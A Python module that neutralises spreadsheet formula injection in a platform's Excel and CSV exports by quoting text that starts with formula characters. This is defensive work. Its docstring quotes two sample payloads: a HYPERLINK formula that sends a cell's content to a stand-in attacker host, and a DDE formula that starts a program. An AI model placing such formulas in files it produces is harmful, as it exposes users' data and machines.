"""Text that a spreadsheet cannot run: every Excel and CSV file the platform writes goes through here.

A value that users control (an item's or product's name, a reference, an enterprise's name, a CSV's entity
column …) and that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by Excel,
LibreOffice and WPS as a formula: ``=HYPERLINK("http://evil.example/?x="&A1,"点击查看")`` sends a
neighbouring cell to another site when clicked, ``=cmd|' /C calc'!A0`` (DDE) starts a program. The rule
is OWASP's for CSV injection: such text is written with a single quote in front (``'=HYPERLINK(…)``), so
it is shown and kept as text; the text after the quote is the original. Numbers are never touched (a
negative *number* stays a number; only text starting with ``-`` gets the quote).

* :func:`neutralise` — one value (idempotent: a neutralised value is returned unchanged);
* :func:`neutralise_workbook` — every cell of an openpyxl workbook, just before it is saved: a string that
  openpyxl would store as a formula (``data_type == "f"``) or that starts with a dangerous character
  becomes a quoted string cell. The platform's workbooks hold no formulas of their own;
* :func:`neutralise_frame` — the text columns of a pandas frame (CSV through pandas);
* :func:`neutralise_table` — the string columns of an Ibis table expression (CSV written by DuckDB);
* :func:`restore` — the inverse for a cell read back from one of our own files (the template round trip).

Pure: no Django (the engine layer), usable by every app above it.
"""

from __future__ import annotations

from typing import Any

#: first characters that make a spreadsheet treat text as a formula (OWASP CSV injection)
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def is_dangerous(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


def neutralise(value: Any) -> Any:
    """``value`` with a single quote in front when it is text starting with a formula character."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return QUOTE + value
    return value


def restore(value: Any) -> Any:
    """The text a neutralised cell stood for (``'=x`` → ``=x``); anything else unchanged."""
    if isinstance(value, str) and value.startswith(QUOTE) and value[1:].startswith(FORMULA_PREFIXES):
        return value[1:]
    return value


def neutralise_workbook(wb: Any) -> Any:
    """Neutralise every text cell of an openpyxl workbook in place (call it right before ``save``)."""
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                value = cell.value
                if not isinstance(value, str):
                    continue
                if cell.data_type == "f" or value.startswith(FORMULA_PREFIXES):
                    cell.value = QUOTE + value  # a string cell now ("'" is not a formula start)
                    cell.data_type = "s"
    return wb


def neutralise_frame(frame: Any) -> Any:
    """A copy of a pandas frame whose text (object or string) columns are neutralised."""
    from pandas.api.types import is_object_dtype, is_string_dtype

    out = frame.copy()
    for name in out.columns:
        if is_object_dtype(out[name]) or is_string_dtype(out[name]):
            out[name] = out[name].map(neutralise)
    return out


def neutralise_table(expr: Any) -> Any:
    """An Ibis table expression whose string columns are neutralised (evaluated by the backend: no pandas)."""
    import ibis

    prefixes = list(FORMULA_PREFIXES)
    changes = {}
    for name, dtype in expr.schema().items():
        if dtype.is_string():
            col = expr[name]
            changes[name] = ibis.ifelse(col.substr(0, 1).isin(prefixes), QUOTE + col, col)
    return expr.mutate(**changes) if changes else expr


__all__ = [
    "FORMULA_PREFIXES",
    "is_dangerous",
    "neutralise",
    "neutralise_frame",
    "neutralise_table",
    "neutralise_workbook",
    "restore",
]
